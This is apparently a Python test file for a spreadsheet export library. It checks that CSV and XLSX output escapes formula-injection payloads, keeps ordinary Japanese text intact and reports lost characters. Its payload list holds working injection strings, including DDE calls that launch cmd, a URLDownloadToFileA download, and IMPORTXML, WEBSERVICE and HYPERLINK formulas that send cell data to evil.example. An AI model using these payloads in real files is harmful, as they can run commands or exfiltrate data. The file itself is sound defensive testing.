"""What people take away: nothing in it is ever calculated, nothing is lost without a word."""

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from enishi.office.sheets.formulas import csv_text, from_csv_text, is_risky
from enishi.office.sheets.reading import read_sheet
from enishi.office.sheets.shortened import Shortened
from enishi.office.sheets.writing import Report, write_csv, write_xlsx

BARE = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=cmd|'/C calc'!A0",
    "+cmd|'/C calc'!A0",
    "-cmd|'/C calc'!A0",
    "@cmd|'/C calc'!A0",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe'!''",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    '=HYPERLINK("http://evil.example/?x="&A1,"詳細")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A2),"//a")',
    '=IMPORTDATA("http://evil.example")',
    '=IMAGE("http://evil.example/"&A1)',
    '=WEBSERVICE("http://evil.example/"&A1)',
    '=FILTERXML("<a/>","//a")',
    '=CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://evil.example","x",0,0)',
    '=EXEC("calc")',
    '=REGISTER("a","b")',
    "=SUM(1+9)*cmd|' /C calc'!A0",
    "=2+5+cmd|' /C calc'!A0",
    "=-2+3",
    "+-1",
    "-+1",
    "--1",
    "@@1",
    "=A1&B1",
    '=INDIRECT("R1C1",0)',
    "={1,2}",
    '="a"&"b"',
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "＝cmd|'/C calc'!A0",
    "﹦1",
    "−1",
    "|calc",
    "-",
    "=",
    "+81-565-31-1212",
    "-5",
    "@username",
]
BEFORE = [
    "\t",
    "\r",
    "\n",
    "\r\n",
    " ",
    "\u3000",
    "\xa0",
    "\ufeff",
    "\u200b",
    "\u200e",
    "\u2060",
    "\x00",
    "\x0b",
    "\x1f",
    '"',
    "'",
    "\u00ad",
    "\u202e",
]
CORPUS = (
    BARE
    + [before + "=1+1" for before in BEFORE]
    + [before + "＠SUM(1)" for before in BEFORE]
    + ["\tx", "\rx", "\nx"]
)
HARMLESS = [
    "豊田市",
    "0565-31-1212",
    "名称=甲",
    "a@example.jp",
    "２丁目−３",
    "ー",
    "（株）縁",
    "第1・3月曜",
    "100%",
    "",
]


def test_the_corpus_is_large_enough_to_mean_something():
    assert len(set(CORPUS)) >= 80


@pytest.mark.parametrize("payload", CORPUS)
def test_a_csv_cell_never_starts_a_formula(payload):
    content = b"".join(write_csv(["頭"], [[payload]])).decode("utf-8-sig")
    cell = list(csv.reader(io.StringIO(content, newline="")))[1][0]
    assert cell.startswith("'")
    assert content.splitlines()[0] == '"頭"'


@pytest.mark.parametrize("payload", CORPUS)
def test_a_formula_as_head_is_no_formula_either(payload):
    content = b"".join(write_csv([payload], [])).decode("utf-8-sig")
    assert next(csv.reader(io.StringIO(content, newline="")))[0].startswith("'")


@pytest.mark.parametrize("text", HARMLESS)
def test_ordinary_text_stays_as_it_is(text):
    assert csv_text(text) == text


@pytest.mark.parametrize("payload", [text for text in CORPUS if text.isprintable()])
def test_a_cell_that_went_out_comes_back_the_same(payload):
    assert from_csv_text(csv_text(payload)) == payload


def test_every_xlsx_cell_is_text_even_a_formula_or_an_error_code():
    target = io.BytesIO()
    payloads = [*CORPUS, "#N/A", "#REF!", "TRUE", "2025-04-01", "00012", "1e5"]
    write_xlsx(["=頭", *payloads], [["x", *payloads]], target)
    with zipfile.ZipFile(io.BytesIO(target.getvalue())) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml
    assert "<f " not in xml
    cells = [cell for row in load_workbook(io.BytesIO(target.getvalue())).active for cell in row]
    assert len(cells) == 2 * (len(payloads) + 1)
    assert {cell.data_type for cell in cells} == {"s"}
    assert {cell.number_format for cell in cells} == {"@"}


def test_control_characters_become_visible_and_literal_escapes_survive():
    target = io.BytesIO()
    write_xlsx(["甲"], [["a\x00b\x1bc\x7f_x0041_ 一\r\n二"]], target)
    assert read_sheet(target.getvalue()).rows[1][1] == ["a␀b␛c␡_x0041_ 一\n二"]


def test_the_sheet_prints_its_head_filters_and_names_its_reader():
    target = io.BytesIO()
    write_xlsx(["甲", "乙"], [["1", "2"], ["3", "4"]], target, title="機関[一覧]", footer="土井 & 2025-04-01")
    sheet = load_workbook(target).active
    assert sheet.title == "機関・一覧・"
    assert sheet.auto_filter.ref == "A1:B3"
    assert sheet.print_title_rows == "$1:$1"
    assert sheet.freeze_panes == "A2"
    assert "土井" in sheet.oddFooter.left.text


def test_characters_that_windows_text_cannot_hold_are_written_as_numbers_and_reported():
    report = Report()
    content = b"".join(
        write_csv(["名称", "所在地"], [["𠮷野家〜", "香�町"]], encoding="cp932", report=report)
    )
    assert content.decode("cp932").splitlines()[1] == '"〔U+20BB7〕野家～","香〔U+FFFD〕町"'
    assert [(place.row, place.head, place.character) for place in report.unheld] == [
        (2, "名称", "𠮷"),
        (2, "所在地", "�"),
    ]
    assert "2行目「名称」の「𠮷」" in report.sentences()[0]
    assert report.rows == 1


def test_a_text_longer_than_a_cell_is_reported_not_lost_silently():
    target = io.BytesIO()
    report = write_xlsx(["文"], [["あ" * 40_000]], target)
    cell = read_sheet(target.getvalue()).rows[1][1][0]
    assert cell.endswith("続きはCSVで出力）")
    assert len(cell) <= 32_767
    assert report.unheld[0].head == "文"


def test_rows_are_written_one_by_one():
    seen = []

    def rows():
        for number in range(3):
            seen.append(number)
            yield [number]

    chunks = write_csv(["数"], rows())
    assert next(chunks) == b"\xef\xbb\xbf"
    next(chunks)
    next(chunks)
    assert seen == [0]


def test_the_risk_is_seen_behind_invisible_marks():
    assert all(is_risky(payload) for payload in CORPUS)


def test_what_a_screen_shortens_leaves_whole() -> None:
    day = Shortened("11/16", "2026-11-16")
    assert f"{day}" == "11/16"
    assert b"".join(write_csv(["日"], [[day]])).decode("utf-8-sig").split("\r\n")[1] == '"2026-11-16"'
    file = io.BytesIO()
    write_xlsx(["日"], [[day]], file, title="表")
    assert load_workbook(file).worksheets[0]["A2"].value == "2026-11-16"
